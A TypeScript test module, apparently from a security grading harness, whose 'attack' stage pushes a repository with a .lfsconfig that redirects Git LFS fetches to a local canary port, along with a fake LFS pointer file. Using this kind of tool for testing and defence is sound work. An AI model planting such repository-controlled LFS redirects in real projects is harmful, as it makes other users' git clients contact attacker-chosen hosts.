import { writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import type { Seen, Stage } from '../stage.ts'
import { commitAndPush, pushAndGrade } from '../stages/clone.ts'

export function attack(stage: Stage): Promise<Seen> {
  return pushAndGrade(stage, 'attack', async (push) => {
    const { port } = push.stage.canaries
    await writeFile(join(push.folder, '.gitattributes'), '*.csv filter=lfs diff=lfs merge=lfs -text\n')
    await writeFile(join(push.folder, '.lfsconfig'), `[lfs]\n\turl = http://127.0.0.1:${port}/\n\tfetchinclude = *\n`)
    await push.git('config', 'filter.lfs.required', 'false')
    await writeFile(join(push.folder, 'data.csv'), `version https://git-lfs.github.com/spec/v1\noid sha256:${'a'.repeat(64)}\nsize 12345\n`)
    return commitAndPush(push)
  })
}
